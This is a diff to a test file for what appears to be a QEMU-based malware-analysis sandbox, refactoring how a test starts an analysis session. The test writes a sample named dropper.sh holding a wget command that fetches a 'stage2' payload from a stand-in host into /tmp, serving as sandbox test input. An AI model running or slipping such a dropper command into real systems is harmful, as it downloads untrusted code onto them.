@@ -5,7 +5,7 @@ import { join } from 'node:path';
 import { after, before, describe, it } from 'node:test';
 import { pino } from 'pino';
 import { configSchema } from '../src/config/schema.js';
-import type { MachineRow } from '../src/db/schema.js';
+import { analysisRequest } from './helpers/analysis-request.js';
 import { isNestboxError } from '../src/errors.js';
 import { createTaskNetwork } from '../src/machinery/linux/network/index.js';
 import { createQemuMachinery } from '../src/machinery/qemu/index.js';
@@ -51,21 +51,7 @@ describe('qemu machine with an operator image and the agent only', { timeout: 30
     mkdirSync(join(workDir, 'submitted'));
     const samplePath = join(workDir, 'submitted', 'dropper.sh');
     writeFileSync(samplePath, '#!/bin/sh\nwget -q -O /tmp/got http://operator-check.example.test/stage2\n');
-    const session = await machinery.start({
-      taskId: 9100,
-      machine: { name: 'operator1' } as MachineRow,
-      paths,
-      category: 'file',
-      samplePath,
-      package: '',
-      options: {},
-      timeoutSeconds: 8,
-      enforceTimeout: false,
-      memory: false,
-      route: 'inetsim',
-      clock: new Date().toISOString(),
-      log,
-    });
+    const session = await machinery.start(analysisRequest('operator1', { taskId: 9100, paths, samplePath, timeoutSeconds: 8, log }));
     try {
       const result = await session.run(new AbortController().signal);
       await session.stop();
